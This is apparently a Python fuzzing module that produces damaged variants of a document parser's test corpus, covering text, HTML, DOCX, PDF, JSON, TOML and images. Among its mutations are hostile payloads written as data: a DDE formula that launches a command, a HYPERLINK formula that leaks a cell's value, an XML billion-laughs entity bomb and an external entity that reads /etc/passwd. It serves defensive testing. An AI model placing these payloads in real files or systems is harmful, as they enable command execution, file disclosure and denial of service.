"""Hostile variants of the corpus files, for ``bench/fuzz.py`` and ``tests/test_fuzz.py``.

``cases(n, seed)`` yields ``Case``s: a corpus file of one carrier, damaged by one mutation,
deterministically from ``seed``. Mutations are byte-level (truncation, byte flips, NULs,
spliced chunks) for every carrier, and carrier-aware where damage is usually found:
numbers (5000 digits, 300 digits and a decimal part, 1e400, NaN, full-width), markup
(``[/evil]`` labels, ``=HYPERLINK(…)`` paragraphs, ``:emoji:`` codes), deep nesting (HTML,
Markdown, JSON, TOML, DOCX), charset declarations, a DOCX's zip headers (version field,
compression method, names), a PDF's MediaBox (1e30), content-stream numbers and a
self-referencing form XObject.

No gongkai code is used: the mutations know only the carriers' formats.
"""

from __future__ import annotations

import io
import random
import re
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "tests" / "corpus"

# carrier → its corpus files (OCR-heavy scans only in the image carrier, which is slow)
SOURCES: dict[str, list[str]] = {
    "text": ["seeds/*.txt", "gold/*.pipe.txt", "gold/*.tab.txt", "gold/0*.txt", "real/*.txt"],
    "markdown": ["gold/*.md", "text/*.md"],
    "html": ["gold/*.html", "html/*.html"],
    "docx": ["gold/*.docx"],
    "doc": ["docx/*.doc"],  # legacy Word: converted by LibreOffice when installed, refused otherwise
    "pdf": ["pdf/lo-*.pdf", "pdf/hongze-*.pdf", "pdf/encrypted.pdf"],
    "json": ["gold/*.gold.json"],
    "toml": [],  # TOML_SEED: the corpus has no calendar year file
    "image": ["scan/no-table.png", "scan/legacy-scan.tiff"],
}
FAST = ("text", "markdown", "html", "docx", "pdf", "json", "toml")  # no OCR
SUFFIX = {"text": ".txt", "markdown": ".md", "html": ".html", "docx": ".docx", "doc": ".doc", "pdf": ".pdf"}
SUFFIX |= {"json": ".json"}
SUFFIX |= {"toml": ".toml", "image": ".png"}


TOML_SEED = """\
year = 2030
source = "国办发明电〔2029〕1号（测试用）"
holidays = [
  "2030-01-01 元旦",
  "2030-10-01..2030-10-07 国庆节",
]
workdays = ["2030-09-29", "2030-10-12"]
"""


@dataclass(frozen=True)
class Case:
    carrier: str
    source: str  # corpus file, relative to tests/corpus
    mutation: str
    data: bytes

    @property
    def name(self) -> str:
        return f"{Path(self.source).name.split('.')[0]}.{self.mutation}{SUFFIX[self.carrier]}"


def sources(carrier: str) -> list[tuple[str, bytes]]:
    """The seed files of ``carrier``: (name relative to tests/corpus, bytes)."""
    if carrier == "toml":
        return [("calendar/2030.toml", TOML_SEED.encode())]
    found: list[Path] = []
    for pattern in SOURCES[carrier]:
        found += sorted(p for p in CORPUS.glob(pattern) if p.is_file())
    return [(str(p.relative_to(CORPUS)), p.read_bytes()) for p in dict.fromkeys(found)]


# ------------------------------------------------------------------ bytes


def truncate(data: bytes, rng: random.Random) -> bytes:
    return data[: rng.randrange(1, max(2, len(data)))]


def flip(data: bytes, rng: random.Random) -> bytes:
    b = bytearray(data)
    for _ in range(rng.choice((1, 4, 32, 256))):
        i = rng.randrange(len(b))
        b[i] ^= 1 << rng.randrange(8)
    return bytes(b)


def nuls(data: bytes, rng: random.Random) -> bytes:
    b = bytearray(data)
    for _ in range(rng.choice((1, 8, 64))):
        i = rng.randrange(len(b))
        b[i : i + rng.choice((1, 1, 16))] = b"\x00" * rng.choice((1, 16))
    return bytes(b)


def splice(data: bytes, rng: random.Random) -> bytes:
    i, j = sorted(rng.randrange(len(data)) for _ in range(2))
    k = rng.randrange(len(data))
    return data[:k] + data[i:j] * rng.choice((1, 2, 8)) + data[k:]


BYTES: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "truncate": truncate,
    "flip": flip,
    "nul": nuls,
    "splice": splice,
}

# ------------------------------------------------------------------ text

_NUMBER = re.compile(r"(?<![\d.])\d{1,6}(?:\.\d+)?(?![\d.])")
HUGE = {
    "digits5000": "1" * 5000,
    "digits300dec": "9" * 300 + ".5",
    "digits16": "1234567890123456",
    "decimals": "0." + "3" * 40,
    "exp400": "1e400",
    "nan": "NaN",
    "inf": "Infinity",
    "negzero": "-0",
    "fullwidth": "１２３４５６７８９０１２３４５６７８",
    "commas": "1,234,567,890,123,456,789",
    "arabic": "٣٤٥",
}


def numbers(text: str, rng: random.Random, which: str | None = None) -> str:
    """Some numbers of ``text`` replaced by one absurd kind."""
    spans = [m.span() for m in _NUMBER.finditer(text)]
    if not spans:
        return text + "\n" + HUGE[which or "digits5000"]
    new = HUGE[which or rng.choice(sorted(HUGE))]
    for a, b in sorted(rng.sample(spans, min(len(spans), rng.choice((1, 3, 20)))), reverse=True):
        text = text[:a] + new + text[b:]
    return text


INJECT = ("[/evil]", "[bold red]x[/]", "[link=file:///etc/passwd]x[/link]", ":smile:", "\x1b[31m", "\u202e")
FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")


def markup(text: str, rng: random.Random) -> str:
    """Console markup and spreadsheet formulas where a label or a paragraph begins."""
    lines = text.split("\n")
    for _ in range(rng.choice((1, 5, 20))):
        i = rng.randrange(len(lines))
        bad = rng.choice(INJECT + FORMULAS)
        lines[i] = bad + lines[i] if rng.random() < 0.5 else lines[i].replace("|", f"| {bad}", 1)
    return "\n".join(lines)


def long_line(text: str, rng: random.Random) -> str:
    i = rng.randrange(len(text) + 1)
    return text[:i] + rng.choice(("|" * 200_000, "一" * 300_000, "1 " * 100_000)) + text[i:]


CONTROLS = ("\x00", "\x0b", "\x0c", "\x1b[2J", "\u2028", "\ufeff", "\ufffe", "\x7f", "\u200b", "\r")


def controls(text: str, rng: random.Random) -> str:
    """Control and format characters inside the text (a Word line break \x0b, escapes, BOMs)."""
    for _ in range(rng.choice((1, 10, 100))):
        i = rng.randrange(len(text) + 1)
        text = text[:i] + rng.choice(CONTROLS) + text[i:]
    return text


CHARREFS = ("&#0;", "&#x110000;", "&#xD800;", "&#99999999999999999999;", "&#xFFFE;", "&bogus;", "&#x1b;")
BOMB = (
    '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
    '<!ENTITY x SYSTEM "file:///etc/passwd">]>'
)


def charrefs(text: str, rng: random.Random) -> str:
    """Character references no character has, entity bombs and external entities."""
    if rng.random() < 0.3:
        return BOMB + text.replace("<td>", "<td>&f;&x;", 3)
    for _ in range(rng.choice((1, 10))):
        i = text.find(">", rng.randrange(len(text) + 1))
        if i > 0:
            text = text[: i + 1] + rng.choice(CHARREFS) + text[i + 1 :]
    return text


TEXT: dict[str, Callable[[str, random.Random], str]] = {
    "numbers": numbers,
    "markup": markup,
    "longline": long_line,
    "controls": controls,
    "charrefs": charrefs,
}


def _nest(open_: str, close: str, depth: int) -> str:
    return open_ * depth + "x" + close * depth


def deep_text(text: str, rng: random.Random, carrier: str) -> str:
    depth = rng.choice((1_000, 100_000))
    if carrier == "html":
        inner = rng.choice((("<div>", "</div>"), ("<table><tr><td>", "</td></tr></table>"), ("<b>", "")))
        return text.replace("<body>", "<body>" + _nest(*inner, depth), 1)
    if carrier == "markdown":
        return text + "\n" + ">" * depth + " 嵌套\n" + "  " * depth + "- 列表\n"
    return text + "\n" + "（" * depth + "\n"


CHARSETS = ("x-mac-unknown", "utf-7", "utf-16", "ebcdic-cp-us", "utf-32", "\x00", "a" * 5000, "gb2312\x00", "")
CHARSETS += ("base64", "rot13", "zlib", "uu", "hex", "idna", "punycode", "x-user-defined", "replacement", "cp1026")


def charset(text: str, rng: random.Random) -> bytes:
    cs = rng.choice(CHARSETS)
    decl = rng.choice(
        (
            f'<meta charset="{cs}">',
            f'<meta http-equiv="Content-Type" content="text/html; charset={cs}">',
            f'<?xml version="1.0" encoding="{cs}"?>',
        )
    )
    text = re.sub(r"<meta[^>]*charset[^>]*>", "", text, flags=re.I)
    out = decl + "\n" + text if decl.startswith("<?xml") else text.replace("<head>", "<head>" + decl, 1)
    if decl not in out:
        out = decl + out
    enc = rng.choice(("utf-8", "gb18030", "utf-16-le", "big5"))
    return out.encode(enc, errors="replace")


# ------------------------------------------------------------------ carriers


def _text_case(carrier: str, raw: bytes, rng: random.Random) -> tuple[str, bytes]:
    text = raw.decode("utf-8", errors="replace")
    kinds = ["numbers", "numbers", "markup", "longline", "deep", "controls"]
    kinds += ["charset", "charset", "charrefs"] if carrier == "html" else []
    kind = rng.choice(kinds)
    if kind == "deep":
        return kind, deep_text(text, rng, carrier).encode()
    if kind == "charset":
        return kind, charset(text, rng)
    if kind == "numbers":
        which = rng.choice(sorted(HUGE))
        return f"numbers-{which}", numbers(text, rng, which).encode()
    return kind, TEXT[kind](text, rng).encode()


def _json_case(raw: bytes, rng: random.Random) -> tuple[str, bytes]:
    text = raw.decode()
    kind = rng.choice(("value", "value", "deep", "type", "shape"))
    if kind == "value":
        which = rng.choice(
            ("NaN", "Infinity", "-Infinity", "1e400", "1" * 5000, "-" + "9" * 20, "1e-400", "0." + "1" * 500)
        )
        return f"value-{which[:8]}", re.sub(
            r'(": )(\d+)', lambda m: m[1] + which, text, count=rng.choice((1, 50))
        ).encode()
    if kind == "deep":
        return kind, text.replace(
            '"cells": {', '"cells": {"t3.new.total": ' + "[" * 100_000 + "]" * 100_000 + ",", 1
        ).encode()
    if kind == "type":
        bad = rng.choice(('"x"', "true", "{}", "[1]", '"[/evil]"', '"=1+1"'))
        return "type", re.sub(r'(": )(\d+)', lambda m: m[1] + bad, text, count=1).encode()
    bad = rng.choice(('"sections": 5', '"issues": {"a": 1}', '"year": "二〇二三"', '"year": 1e400', '"format": null'))
    key = bad.split(":")[0]
    return "shape", re.sub(re.escape(key) + r": [^,\n]*", bad, text, count=1).encode()


def _toml_case(raw: bytes, rng: random.Random) -> tuple[str, bytes]:
    text = raw.decode()
    kind = rng.choice(("deep", "number", "encoding", "dates"))
    if kind == "deep":
        return kind, (text + "\nx = " + "[" * 100_000 + "]" * 100_000 + "\n").encode()
    if kind == "number":
        return kind, re.sub(r"year = \d+", "year = " + rng.choice(("1" * 5000, "1e400", "nan", "-1")), text).encode()
    if kind == "encoding":
        return kind, text.encode("utf-16")
    return kind, re.sub(r"\d{4}-\d{2}-\d{2}", rng.choice(("9999-99-99", "0000-01-01", "2024-02-30")), text).encode()


def _docx_case(raw: bytes, rng: random.Random) -> tuple[str, bytes]:
    kind = rng.choice(("xml-numbers", "xml-numbers", "xml-markup", "xml-deep", "xml-controls", "xml-bomb"))
    kind = kind if rng.random() < 0.6 else rng.choice(("zip-version", "zip-method", "zip-names"))
    if kind.startswith("zip-"):
        return kind, _zip_damage(raw, rng, kind)
    src = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/document.xml":
                data = _xml_mutation(data.decode(), rng, kind).encode()
            z.writestr(info.filename, data)
    return kind, out.getvalue()


def _xml_mutation(xml: str, rng: random.Random, kind: str) -> str:
    if kind == "xml-numbers":
        which = rng.choice(sorted(HUGE))
        return re.sub(
            r"(<w:t[^>]*>)(\d{1,6})(</w:t>)", lambda m: m[1] + HUGE[which] + m[3], xml, count=rng.choice((1, 30))
        )
    if kind == "xml-controls":  # as character references: the XML stays well-formed where it can
        bad = rng.choice(("&#x0b;", "&#x1b;", "&#xfffe;", "&#x0;", "\u2028", "\ufeff"))
        return re.sub(r"(<w:t[^>]*>)", lambda m: m[1] + bad, xml, count=rng.choice((1, 30)))
    if kind == "xml-bomb":
        head, sep, rest = xml.partition("?>")
        bomb = BOMB.replace("<!DOCTYPE d", "<!DOCTYPE w:document")
        return head + sep + bomb + rest.replace("<w:t>", "<w:t>&f;&x;", 2)
    if kind == "xml-markup":
        bad = rng.choice(INJECT + FORMULAS).replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        return re.sub(r"(<w:t[^>]*>)", lambda m: m[1] + bad, xml, count=rng.choice((1, 30)))
    depth = rng.choice((200, 5_000))
    nested = "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth
    return xml.replace("<w:body>", "<w:body>" + nested, 1)


def _zip_damage(raw: bytes, rng: random.Random, kind: str) -> bytes:
    b = bytearray(raw)
    heads = [m.start() for m in re.finditer(rb"PK\x03\x04", raw)] + [
        m.start() for m in re.finditer(rb"PK\x01\x02", raw)
    ]
    for h in rng.sample(heads, min(len(heads), rng.choice((1, 3, len(heads))))):
        central = raw[h : h + 4] == b"PK\x01\x02"
        if kind == "zip-version":  # version needed to extract (and made by)
            off = h + (6 if central else 4)
            b[off : off + 2] = rng.choice((b"\xff\xff", b"\x3f\x00", b"\x00\x00", b"\x14\x0f"))
        elif kind == "zip-method":
            off = h + (10 if central else 8)
            b[off : off + 2] = rng.choice((b"\x63\x00", b"\x0c\x00", b"\x0e\x00", b"\xff\xff"))
        else:  # the name's length
            off = h + (28 if central else 26)
            b[off : off + 2] = rng.choice((b"\xff\xff", b"\x00\x00", b"\x01\x00"))
    return bytes(b)


def _pdf_case(raw: bytes, rng: random.Random) -> tuple[str, bytes]:
    kind = rng.choice(("mediabox", "stream-numbers", "cycle", "length"))
    if kind == "mediabox":
        box = rng.choice(("[0 0 1e30 1e30]", "[0 0 0 0]", "[0 0 -1 nan]", "[0 0 99999999999 1]", "[1e30]"))
        return kind, re.sub(rb"/MediaBox\s*\[[^\]]*\]", b"/MediaBox" + box.encode(), raw)
    if kind == "length":
        return kind, re.sub(rb"/Length \d+", b"/Length " + rng.choice((b"0", b"99999999999", b"-5")), raw, count=3)
    if kind == "cycle":
        return kind, _xobject_cycle(raw)
    return kind, _stream_numbers(raw, rng)


def _stream_numbers(raw: bytes, rng: random.Random) -> bytes:
    """Numbers in the page content streams (coordinates, font sizes) replaced by absurd ones."""

    def mutate(m: re.Match) -> bytes:
        try:
            content = zlib.decompress(m[2])
        except zlib.error:
            return m[0]
        bad = rng.choice((b"1e30", b"99999999999999999999", b"-1e38", b"nan", b"0"))
        content = re.sub(rb"(?<![\w.])\d+(?:\.\d+)?(?![\w.])", lambda _: bad if rng.random() < 0.2 else _[0], content)
        return m[1] + zlib.compress(content) + m[3]

    return re.sub(rb"(stream\r?\n)(.*?)(\r?\nendstream)", mutate, raw, flags=re.S)


def _xobject_cycle(raw: bytes) -> bytes:
    """A page whose resources hold a form XObject that draws itself (a reference cycle)."""
    m = re.search(rb"/Resources\s*\d+ 0 R", raw) or re.search(rb"/Resources\s*<<", raw)
    if not m:
        return raw
    page = raw.replace(m[0], b"/Resources 9991 0 R", 1) if m[0].endswith(b"R") else raw
    page = re.sub(rb"/Contents\s*(\d+ 0 R)", rb"/Contents [\1 9992 0 R]", page, count=1)
    extra = (
        b"\n9990 0 obj <</Type/XObject/Subtype/Form/BBox[0 0 10 10]/Resources 9991 0 R/Length 7>>stream\n"
        b"/Fx Do\nendstream endobj\n9991 0 obj <</XObject<</Fx 9990 0 R>>/Font 9991 0 R>> endobj\n"
        b"9992 0 obj <</Length 7>>stream\n/Fx Do\nendstream endobj\n"
    )
    end = page.rfind(b"%%EOF")
    return page[:end] + extra + page[end:] if end > 0 else page + extra


def _image_case(raw: bytes, rng: random.Random) -> tuple[str, bytes]:
    b = bytearray(raw)
    if raw.startswith(b"\x89PNG") and rng.random() < 0.5:  # IHDR width/height
        b[16:24] = rng.choice((b"\x00\x00\x00\x01\x07\x17\x0b\xc0", b"\x7f\xff\xff\xff\x7f\xff\xff\xff"))
        b[29:33] = zlib.crc32(bytes(b[12:29])).to_bytes(4, "big")  # a valid chunk: only the size is a lie
        return "dimensions", bytes(b)
    return "flip", flip(raw, rng)


def mutate(carrier: str, raw: bytes, rng: random.Random) -> tuple[str, bytes]:
    """One mutation of a file of ``carrier``: its name and the damaged bytes."""
    if rng.random() < 0.35 or (carrier == "image" and rng.random() < 0.5) or carrier == "doc":
        name = rng.choice(sorted(BYTES))
        return name, BYTES[name](raw, rng)
    if carrier in ("text", "markdown", "html"):
        return _text_case(carrier, raw, rng)
    return {"json": _json_case, "toml": _toml_case, "docx": _docx_case, "pdf": _pdf_case, "image": _image_case}[
        carrier
    ](raw, rng)


def cases(n: int, seed: int = 0, carriers: tuple[str, ...] = FAST) -> Iterator[Case]:
    """``n`` cases spread evenly over ``carriers``, each from a file of its corpus, deterministic."""
    pools = {c: sources(c) for c in carriers}
    pools = {c: files for c, files in pools.items() if files}
    order = sorted(pools)
    for i in range(n):
        carrier = order[i % len(order)]
        rng = random.Random(f"{seed}:{i}")
        name, raw = rng.choice(pools[carrier])
        mutation, data = mutate(carrier, raw, rng)
        yield Case(carrier, name, mutation, data)
